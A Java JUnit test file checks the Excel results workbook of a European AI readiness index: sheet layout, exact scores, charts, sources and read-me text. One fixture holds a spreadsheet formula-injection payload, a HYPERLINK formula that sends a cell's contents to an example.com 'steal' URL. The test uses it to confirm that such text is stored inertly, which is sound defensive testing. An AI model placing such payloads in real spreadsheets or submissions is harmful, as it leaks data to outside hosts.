package eu.aireadiness.publication;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.regex.Pattern;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xddf.usermodel.XDDFSolidFillProperties;
import org.apache.poi.xddf.usermodel.chart.BarDirection;
import org.apache.poi.xddf.usermodel.chart.XDDFBarChartData;
import org.apache.poi.xddf.usermodel.chart.XDDFChartData;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFChart;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import eu.aireadiness.framework.Indicator;
import eu.aireadiness.framework.Pillar;
import eu.aireadiness.publication.text.Branding;
import eu.aireadiness.publication.text.PublicationLanguages;
import eu.aireadiness.publication.text.PublicationTexts;
import eu.aireadiness.publication.workbook.XlsxResultsWriter;
import eu.aireadiness.results.CountryResult;
import eu.aireadiness.results.IndicatorResult;
import eu.aireadiness.results.PillarScore;
import eu.aireadiness.results.PublishedEdition;
import eu.aireadiness.results.RankInterval;
import eu.aireadiness.results.ValueOrigin;
import eu.aireadiness.results.ValueSource;

/**
 * Reads the results workbook back with POI: every sheet a table with a frozen bold header and a filter, the numbers
 * the model's at full precision in numeric cells, the charts reading the right cells, and text from a submission
 * kept as text.
 */
class PublisherWorkbookTest {

    /** A source an officer could type, which a spreadsheet would run if it were a formula. */
    static final String HOSTILE_SOURCE = "=HYPERLINK(\"http://example.com/steal?\"&A1,\"Eurostat\")";
    static final String HOSTILE_FILE = "@SUM(1+1)*cmd.csv";
    static final String SHEETS = "Read me, Ranking, Pillars, Indicators, Rank intervals, Coverage, Codebook, Sources";
    private static final Pattern NUMBER = Pattern.compile("[+-]?\\d+([.,]\\d+)?");

    @TempDir
    static Path output;

    static PublishedEdition edition;
    static CountryResult treatedCountry;
    static XSSFWorkbook workbook;

    @BeforeAll
    static void publish() throws IOException {
        edition = withTreatedHostileValue(SampleEdition.build());
        new Publisher(PublisherPdfTest.TEMPLATES).publish(edition, output.resolve("2026"));
        Path xlsx = output.resolve("2026/AIRI-2026-results-en.xlsx");
        try (InputStream in = Files.newInputStream(xlsx)) {
            workbook = new XSSFWorkbook(in);
        }
    }

    @AfterAll
    static void close() throws IOException {
        workbook.close();
    }

    /**
     * The sample edition with one value (the third country's CMP1) whose submitted, published and treated values
     * differ, and whose source and file name start like formulas.
     */
    static PublishedEdition withTreatedHostileValue(PublishedEdition sample) {
        List<CountryResult> ranking = new ArrayList<>(sample.ranking());
        CountryResult third = ranking.get(2);
        IndicatorResult original = third.indicators().get("CMP1");
        Map<String, IndicatorResult> indicators = new LinkedHashMap<>(third.indicators());
        indicators.put("CMP1", new IndicatorResult("CMP1", OptionalDouble.of(1234.5), OptionalDouble.of(456.25),
                OptionalDouble.of(300.0), original.score(), original.rank(), original.origin(), original.dataYear(),
                Optional.of(new ValueSource(HOSTILE_SOURCE, HOSTILE_FILE, 3, 7))));
        treatedCountry = new CountryResult(third.country(), third.rank(), third.indexScore(), third.rankInterval(),
                third.previousIndexScore(), third.previousRank(), third.pillars(), indicators);
        ranking.set(2, treatedCountry);
        return new PublishedEdition(sample.info(), sample.previousEdition(), sample.codebook(), ranking,
                sample.euAverage(), sample.submissions(), sample.method(), sample.uncertainty(), sample.coherence());
    }

    @Test
    void theSheetsAreThoseOfTheIssueInTheFirstLanguage() {
        assertThat(String.join(", ", sheetNames(workbook))).isEqualTo(SHEETS);
    }

    @Test
    void everyTableHasABoldFrozenHeaderAFilterOverItsRowsAndColumnWidths() {
        Map<String, Integer> rows = Map.of("Ranking", 27, "Pillars", 27, "Indicators", 27 * 30,
                "Rank intervals", 27, "Coverage", 27, "Codebook", 1 + 7 + 30, "Sources", sourceRows());
        rows.forEach((name, count) -> {
            XSSFSheet sheet = workbook.getSheet(name);
            assertThat(sheet.getPaneInformation().isFreezePane()).as(name).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitTopRow()).as(name).isEqualTo((short) 1);
            CellRangeAddress filter = CellRangeAddress.valueOf(sheet.getCTWorksheet().getAutoFilter().getRef());
            Row header = sheet.getRow(0);
            assertThat(filter.getFirstRow()).as(name).isZero();
            assertThat(filter.getLastRow()).as(name).isEqualTo(count);
            assertThat(filter.getLastColumn()).as(name).isEqualTo(header.getLastCellNum() - 1);
            for (Cell cell : header) {
                assertThat(workbook.getFontAt(cell.getCellStyle().getFontIndex()).getBold()).as(name).isTrue();
                assertThat(sheet.getColumnWidth(cell.getColumnIndex())).as(name).isGreaterThanOrEqualTo(6 * 256);
            }
        });
    }

    @Test
    void theRankingHoldsTheModelsNumbersExactly() {
        XSSFSheet sheet = workbook.getSheet("Ranking");
        List<Pillar> pillars = edition.codebook().pillars();
        assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Rank");
        assertThat(sheet.getRow(0).getCell(8).getStringCellValue()).isEqualTo("Change since the 2025 edition");
        for (int i = 0; i < 27; i++) {
            CountryResult result = edition.ranking().get(i);
            RankInterval interval = result.rankInterval().orElseThrow();
            Row row = sheet.getRow(i + 1);
            assertThat(row.getCell(0).getNumericCellValue()).isEqualTo(result.rank());
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo(result.country().code());
            assertThat(row.getCell(2).getStringCellValue()).isEqualTo(result.country().englishName());
            assertThat(row.getCell(3).getNumericCellValue()).isEqualTo(result.indexScore());
            assertThat(row.getCell(4).getNumericCellValue()).isEqualTo(Math.floor(interval.low()));
            assertThat(row.getCell(5).getNumericCellValue()).isEqualTo(Math.ceil(interval.high()));
            assertThat(row.getCell(6).getNumericCellValue()).isEqualTo(interval.median());
            if (!SampleEdition.flagged(result.country().code(), "").isEmpty()) {
                // No current data: the change would compare the previous edition's values with themselves.
                assertThat(row.getCell(8).getStringCellValue()).isEqualTo("not comparable");
            } else if (result.previousRank().isPresent()) {
                assertThat(row.getCell(7).getNumericCellValue()).isEqualTo(result.previousRank().getAsInt());
                assertThat(row.getCell(8).getNumericCellValue())
                        .isEqualTo(result.indexScore() - result.previousIndexScore().getAsDouble());
            } else {
                assertThat(row.getCell(7)).isNull();
                assertThat(row.getCell(8)).isNull();
            }
            for (int p = 0; p < pillars.size(); p++) {
                assertThat(row.getCell(9 + p).getNumericCellValue())
                        .isEqualTo(result.pillars().get(pillars.get(p).code()).score());
            }
        }
        Row first = sheet.getRow(1);
        assertThat(first.getCell(0).getCellStyle().getDataFormatString()).isEqualTo("0");
        assertThat(first.getCell(3).getCellStyle().getDataFormatString()).isEqualTo("0.0");
        assertThat(first.getCell(9).getCellStyle().getDataFormatString()).isEqualTo("0.0");
        assertThat(edition.ranking()).extracting(r -> r.country().code()).contains(SampleEdition.WITHOUT_PREVIOUS);
    }

    @Test
    void theRankingChartBarsEveryCountrysIndexScoreInRankOrder() {
        List<XSSFChart> charts = workbook.getSheet("Ranking").getDrawingPatriarch().getCharts();
        assertThat(charts).hasSize(1);
        XDDFBarChartData bars = (XDDFBarChartData) charts.get(0).getChartSeries().get(0);
        assertThat(bars.getBarDirection()).isEqualTo(BarDirection.BAR);
        assertThat(bars.getSeriesCount()).isEqualTo(1);
        XDDFChartData.Series series = bars.getSeries(0);
        assertThat(series.getCategoryData().getDataRangeReference()).isEqualTo("Ranking!$C$2:$C$28");
        assertThat(series.getValuesData().getDataRangeReference()).isEqualTo("Ranking!$D$2:$D$28");
        assertThat(series.getValuesData().getPointCount()).isEqualTo(27);
        assertThat(series.getCategoryData().getPointAt(0)).isEqualTo(edition.ranking().get(0).country().englishName());
        assertThat(((XDDFBarChartData.Series) series).getShapeProperties().getFillProperties())
                .isInstanceOf(XDDFSolidFillProperties.class);
    }

    @Test
    void thePillarsSheetHoldsScoresRanksAndTheEuAverageHighestAndLowest() {
        XSSFSheet sheet = workbook.getSheet("Pillars");
        List<Pillar> pillars = edition.codebook().pillars();
        assertThat(sheet.getRow(0).getCell(4).getStringCellValue()).isEqualTo("Compute & data-centre capacity (CMP)");
        assertThat(sheet.getRow(0).getCell(4 + 7).getStringCellValue()).isEqualTo("Rank CMP");
        for (int i = 0; i < 27; i++) {
            CountryResult result = edition.ranking().get(i);
            Row row = sheet.getRow(i + 1);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo(result.country().code());
            assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(result.indexScore());
            assertThat(row.getCell(3).getNumericCellValue()).isEqualTo(result.rank());
            for (int p = 0; p < pillars.size(); p++) {
                PillarScore score = result.pillars().get(pillars.get(p).code());
                assertThat(row.getCell(4 + p).getNumericCellValue()).isEqualTo(score.score());
                assertThat(row.getCell(4 + 7 + p).getNumericCellValue()).isEqualTo(score.rank());
            }
        }
        assertThat((Object) sheet.getRow(28)).isNull();
        Row average = sheet.getRow(29);
        Row highest = sheet.getRow(30);
        Row lowest = sheet.getRow(31);
        assertThat(average.getCell(1).getStringCellValue()).isEqualTo("EU average");
        assertThat(highest.getCell(1).getStringCellValue()).isEqualTo("Highest score");
        assertThat(lowest.getCell(1).getStringCellValue()).isEqualTo("Lowest score");
        assertThat(average.getCell(2).getNumericCellValue()).isEqualTo(edition.euAverage().get("INDEX"));
        for (int p = 0; p < pillars.size(); p++) {
            String code = pillars.get(p).code();
            double max = Double.NEGATIVE_INFINITY;
            double min = Double.POSITIVE_INFINITY;
            for (CountryResult result : edition.ranking()) {
                max = Math.max(max, result.pillars().get(code).score());
                min = Math.min(min, result.pillars().get(code).score());
            }
            assertThat(average.getCell(4 + p).getNumericCellValue()).isEqualTo(edition.euAverage().get(code));
            assertThat(highest.getCell(4 + p).getNumericCellValue()).isEqualTo(max);
            assertThat(lowest.getCell(4 + p).getNumericCellValue()).isEqualTo(min);
            assertThat(average.getCell(4 + 7 + p)).isNull();
        }
    }

    @Test
    void thePillarsChartComparesLowestAverageAndHighestPerPillar() {
        List<XSSFChart> charts = workbook.getSheet("Pillars").getDrawingPatriarch().getCharts();
        assertThat(charts).hasSize(1);
        XDDFBarChartData bars = (XDDFBarChartData) charts.get(0).getChartSeries().get(0);
        assertThat(bars.getSeriesCount()).isEqualTo(3);
        List<String> values = new ArrayList<>();
        for (int s = 0; s < 3; s++) {
            XDDFBarChartData.Series series = (XDDFBarChartData.Series) bars.getSeries(s);
            assertThat(series.getCategoryData().getDataRangeReference()).isEqualTo("Pillars!$E$1:$K$1");
            assertThat(series.getValuesData().getPointCount()).isEqualTo(7);
            assertThat(series.getShapeProperties().getFillProperties()).isInstanceOf(XDDFSolidFillProperties.class);
            values.add(series.getValuesData().getDataRangeReference());
        }
        assertThat(values).containsExactly("Pillars!$E$32:$K$32", "Pillars!$E$30:$K$30", "Pillars!$E$31:$K$31");
        assertThat(bars.getSeries(1).getCategoryData().getPointAt(6)).isEqualTo("Adoption (ADO)");
    }

    @Test
    void theIndicatorsSheetHoldsEveryValueAsSubmittedPublishedTreatedAndScoredWithItsFlagAndSource() {
        XSSFSheet sheet = workbook.getSheet("Indicators");
        List<Indicator> indicators = edition.codebook().indicators();
        assertThat(sheet.getLastRowNum()).isEqualTo(27 * 30);
        int rowIndex = 1;
        for (CountryResult result : edition.ranking()) {
            for (Indicator indicator : indicators) {
                IndicatorResult expected = result.indicators().get(indicator.code());
                Row row = sheet.getRow(rowIndex++);
                String where = result.country().code() + " " + indicator.code();
                assertThat(row.getCell(0).getStringCellValue()).as(where).isEqualTo(result.country().code());
                assertThat(row.getCell(3).getStringCellValue()).as(where).isEqualTo(indicator.code());
                assertThat(row.getCell(6).getStringCellValue()).as(where).isEqualTo(indicator.submissionUnit());
                assertThat(row.getCell(9).getStringCellValue()).as(where).isEqualTo(indicator.unit());
                String flag = switch (expected.origin()) {
                    case REPORTED -> null;
                    case ESTIMATED -> "E";
                    case PROVISIONAL -> "P";
                    case CARRIED_FORWARD -> "H";
                    case MISSING -> "M";
                };
                assertThat(row.getCell(12) == null ? null : row.getCell(12).getStringCellValue()).as(where)
                        .isEqualTo(flag);
                if (expected.origin() == ValueOrigin.MISSING) {
                    for (int column : new int[] {5, 7, 8, 10, 11, 13, 14, 15, 16, 17}) {
                        assertThat(row.getCell(column)).as(where + " column " + column).isNull();
                    }
                    continue;
                }
                assertNumber(row, 5, expected.submitted().getAsDouble(), where);
                assertNumber(row, 7, expected.value().getAsDouble(), where);
                assertNumber(row, 8, expected.treated().getAsDouble(), where);
                assertNumber(row, 10, expected.score().getAsDouble(), where);
                assertNumber(row, 11, expected.rank().getAsInt(), where);
                assertNumber(row, 13, expected.dataYear().getAsInt(), where);
                ValueSource source = expected.source().orElseThrow();
                assertThat(row.getCell(14).getStringCellValue()).as(where).isEqualTo(source.source());
                assertThat(row.getCell(15).getStringCellValue()).as(where).isEqualTo(source.fileName());
                assertNumber(row, 16, source.submissionVersion(), where);
                assertNumber(row, 17, (double) source.row(), where);
            }
        }
        Row missing = rowOf(sheet, SampleEdition.MISSING_COUNTRY, SampleEdition.MISSING_INDICATOR);
        assertThat(missing.getCell(12).getStringCellValue()).isEqualTo("M");
        Row carried = rowOf(sheet, SampleEdition.REJECTED, "CMP1");
        assertThat(carried.getCell(12).getStringCellValue()).isEqualTo("H");
        assertThat(carried.getCell(13).getNumericCellValue()).isEqualTo(2025);
    }

    @Test
    void aTreatedValueShowsWhatWasSubmittedPublishedAndUsed() {
        Row row = rowOf(workbook.getSheet("Indicators"), treatedCountry.country().code(), "CMP1");
        assertThat(row.getCell(5).getNumericCellValue()).isEqualTo(1234.5);
        assertThat(row.getCell(7).getNumericCellValue()).isEqualTo(456.25);
        assertThat(row.getCell(8).getNumericCellValue()).isEqualTo(300.0);
        // CMP1 has one decimal in the codebook: the cell keeps the full number and shows one decimal.
        assertThat(row.getCell(7).getCellStyle().getDataFormatString()).isEqualTo("#,##0.0");
        assertThat(row.getCell(10).getCellStyle().getDataFormatString()).isEqualTo("0.0");
        assertThat(row.getCell(11).getCellStyle().getDataFormatString()).isEqualTo("0");
    }

    @Test
    void textFromASubmissionThatLooksLikeAFormulaIsStoredAsQuotedText() {
        Row row = rowOf(workbook.getSheet("Indicators"), treatedCountry.country().code(), "CMP1");
        for (int column : new int[] {14, 15}) {
            XSSFCell cell = (XSSFCell) row.getCell(column);
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
        }
        assertThat(row.getCell(14).getStringCellValue()).isEqualTo(HOSTILE_SOURCE);
        assertThat(row.getCell(15).getStringCellValue()).isEqualTo(HOSTILE_FILE);
        Row plain = rowOf(workbook.getSheet("Indicators"), treatedCountry.country().code(), "CMP2");
        assertThat(plain.getCell(14).getCellStyle().getQuotePrefixed()).isFalse();
        Row source = findRow(workbook.getSheet("Sources"), 2, HOSTILE_SOURCE);
        assertThat(source.getCell(2).getCellStyle().getQuotePrefixed()).isTrue();
        assertThat(source.getCell(6).getStringCellValue()).isEqualTo("CMP1");
    }

    @Test
    void noCellIsAFormulaAndNoNumberIsStoredAsTextOrAsADash() {
        for (Sheet sheet : workbook) {
            boolean isTable = !sheet.getSheetName().equals("Read me");
            for (Row row : sheet) {
                for (Cell cell : row) {
                    String where = sheet.getSheetName() + "!" + cell.getAddress();
                    assertThat(cell.getCellType()).as(where).isIn(CellType.STRING, CellType.NUMERIC);
                    if (cell.getCellType() == CellType.STRING && isTable) {
                        String text = cell.getStringCellValue();
                        assertThat(NUMBER.matcher(text).matches()).as(where + " '" + text + "'").isFalse();
                        assertThat(text).as(where).isNotIn("", "NaN", "\u2013", "-\u2013");
                    }
                }
            }
        }
    }

    @Test
    void theRankIntervalsSheetGivesThePercentilesUnrounded() {
        XSSFSheet sheet = workbook.getSheet("Rank intervals");
        for (int i = 0; i < 27; i++) {
            CountryResult result = edition.ranking().get(i);
            RankInterval interval = result.rankInterval().orElseThrow();
            Row row = sheet.getRow(i + 1);
            assertThat(row.getCell(0).getNumericCellValue()).isEqualTo(result.rank());
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo(result.country().code());
            assertThat(row.getCell(4).getNumericCellValue()).isEqualTo(interval.median());
            assertThat(row.getCell(5).getNumericCellValue()).isEqualTo(interval.low());
            assertThat(row.getCell(6).getNumericCellValue()).isEqualTo(interval.high());
            assertThat(row.getCell(7).getNumericCellValue()).isEqualTo(Math.floor(interval.low()));
            assertThat(row.getCell(8).getNumericCellValue()).isEqualTo(Math.ceil(interval.high()));
            assertThat(row.getCell(9).getNumericCellValue()).isEqualTo(1000);
        }
    }

    @Test
    void theCodebookListsTheIndexEveryPillarAndEveryIndicator() {
        XSSFSheet codebook = workbook.getSheet("Codebook");
        List<String> codes = new ArrayList<>();
        for (int r = 1; r <= codebook.getLastRowNum(); r++) {
            codes.add(codebook.getRow(r).getCell(0).getStringCellValue());
        }
        List<String> expected = new ArrayList<>(List.of("INDEX"));
        edition.codebook().pillars().forEach(p -> expected.add(p.code()));
        edition.codebook().indicators().forEach(i -> expected.add(i.code()));
        assertThat(codes).isEqualTo(expected);
        Row grn2 = codebook.getRow(1 + 1 + 7 + 5);
        assertThat(grn2.getCell(0).getStringCellValue()).isEqualTo("GRN2");
        assertThat(grn2.getCell(4).getStringCellValue()).isEqualTo("ratio");
        assertThat(grn2.getCell(8).getStringCellValue()).isEqualTo("-");
        assertThat(grn2.getCell(10).getNumericCellValue()).isEqualTo(2.0);
        assertThat(grn2.getCell(11).getNumericCellValue()).isEqualTo(1.1);
        Row cmp1 = codebook.getRow(1 + 1 + 7);
        assertThat(cmp1.getCell(6).getStringCellValue()).isEqualTo("POP");
        assertThat(cmp1.getCell(7).getNumericCellValue()).isEqualTo(1_000_000);
        Row skl1 = codebook.getRow(1 + 1 + 7 + 9);
        assertThat(skl1.getCell(12).getNumericCellValue()).isEqualTo(80);
        assertThat(skl1.getCell(13).getStringCellValue()).startsWith("Digital Decade 2030 target");
    }

    @Test
    void theCoverageAndSourcesSheetsSayWhereTheDataCameFrom() {
        XSSFSheet coverage = workbook.getSheet("Coverage");
        Row bulgaria = coverage.getRow(3);
        assertThat(bulgaria.getCell(0).getStringCellValue()).isEqualTo("BG");
        assertThat(bulgaria.getCell(2).getStringCellValue()).isEqualTo("Rejected: previous values carried forward");
        assertThat(bulgaria.getCell(3)).as("no rejected file's name").isNull();
        assertThat(bulgaria.getCell(4)).isNull();
        assertThat(bulgaria.getCell(5).getStringCellValue())
                .isEqualTo("submission rejected: values failed validation");
        XSSFSheet sources = workbook.getSheet("Sources");
        Map<String, Integer> valuesByCountry = new HashMap<>();
        for (int r = 1; r <= sources.getLastRowNum(); r++) {
            Row row = sources.getRow(r);
            valuesByCountry.merge(row.getCell(0).getStringCellValue(), (int) row.getCell(7).getNumericCellValue(),
                    Integer::sum);
            assertThat(row.getCell(6).getStringCellValue().split(", ")).hasSize((int) row.getCell(7).getNumericCellValue());
        }
        assertThat(valuesByCountry).hasSize(27);
        assertThat(valuesByCountry.get(SampleEdition.MISSING_COUNTRY)).isEqualTo(29);
        assertThat(valuesByCountry.get("DE")).isEqualTo(30);
        Row bulgarianSource = findRow(sources, 0, "BG");
        assertThat(bulgarianSource.getCell(3).getStringCellValue()).isEqualTo("BG-2025-submission.csv");
        assertThat(bulgarianSource.getCell(5).getNumericCellValue()).isEqualTo(2025);
    }

    @Test
    void theReadMeSaysWhatTheWorkbookHoldsAndHowTheRanksWereMade() {
        XSSFSheet readMe = workbook.getSheet("Read me");
        assertThat(readMe.getRow(0).getCell(0).getStringCellValue()).isEqualTo("European AI Readiness Index 2026");
        Map<String, String> lines = new LinkedHashMap<>();
        for (Row row : readMe) {
            if (row.getCell(1) != null) {
                lines.put(row.getCell(0).getStringCellValue(), row.getCell(1).getStringCellValue());
            }
        }
        assertThat(lines.get("Data notice")).contains("not official statistics");
        assertThat(lines.get("Publication date")).isEqualTo("1 December 2026");
        assertThat(lines.get("Publisher")).isEqualTo("European AI Readiness Office");
        assertThat(lines.get("How to cite")).isEqualTo("European AI Readiness Office (2026), European AI Readiness"
                + " Index 2026: results workbook. Published 1 December 2026.");
        for (String sheet : SHEETS.split(", ")) {
            if (!sheet.equals("Read me")) {
                assertThat(lines).as(sheet).containsKey(sheet);
            }
        }
        assertThat(lines.get("H")).startsWith("Carried forward");
        assertThat(lines.get("")).contains("1,000 replications", "between 0.75 and 1.25",
                "the normalisation: goalposts, min-max", "seed 20261128");
        assertThat(lines.get("Normalisation")).startsWith("Each indicator is scored from 0 to 100 between fixed"
                + " goalposts");
        assertThat(lines.get("Missing values")).contains("flagged H (carried forward)");
        assertThat(lines.get("Aggregation")).contains("weighted arithmetic mean");
        assertThat(lines.get("Outliers")).isEqualTo("No outlier treatment: the treated value is the published value.");
    }

    @Test
    void theWorkbookCanBeWrittenInEveryLanguageOfTheTemplates(@TempDir Path folder) throws IOException {
        for (String language : PublicationLanguages.in(PublisherPdfTest.TEMPLATES)) {
            PublicationTexts texts = PublicationTexts.load(PublisherPdfTest.TEMPLATES, language);
            Path file = folder.resolve(language + ".xlsx");
            new XlsxResultsWriter(texts, Branding.load(PublisherPdfTest.TEMPLATES)).write(edition, file);
            try (XSSFWorkbook written = new XSSFWorkbook(Files.newInputStream(file))) {
                assertThat(sheetNames(written)).as(language).containsExactly(texts.text("xlsx.sheet.readme"),
                        texts.text("xlsx.sheet.ranking"), texts.text("xlsx.sheet.pillars"),
                        texts.text("xlsx.sheet.indicators"), texts.text("xlsx.sheet.rank-intervals"),
                        texts.text("xlsx.sheet.coverage"), texts.text("xlsx.sheet.codebook"),
                        texts.text("xlsx.sheet.sources"));
                assertThat(written.getSheetAt(1).getDrawingPatriarch().getCharts()).as(language).hasSize(1);
            }
        }
    }

    private static void assertNumber(Row row, int column, double expected, String where) {
        Cell cell = row.getCell(column);
        assertThat(cell.getCellType()).as(where + " column " + column).isEqualTo(CellType.NUMERIC);
        assertThat(cell.getNumericCellValue()).as(where + " column " + column).isEqualTo(expected);
    }

    private static Row rowOf(Sheet indicators, String country, String indicator) {
        for (Row row : indicators) {
            if (row.getCell(0).getStringCellValue().equals(country)
                    && row.getCell(3).getStringCellValue().equals(indicator)) {
                return row;
            }
        }
        throw new AssertionError("no row for " + country + " " + indicator);
    }

    private static Row findRow(Sheet sheet, int column, String text) {
        for (Row row : sheet) {
            Cell cell = row.getCell(column);
            if (cell != null && cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(text)) {
                return row;
            }
        }
        throw new AssertionError("no row of " + sheet.getSheetName() + " with '" + text + "'");
    }

    /** One source per country in the sample, and a second for the value whose source was replaced. */
    private static int sourceRows() {
        return 27 + 1;
    }

    private static List<String> sheetNames(XSSFWorkbook book) {
        List<String> names = new ArrayList<>();
        book.forEach(sheet -> names.add(sheet.getSheetName()));
        return names;
    }
}
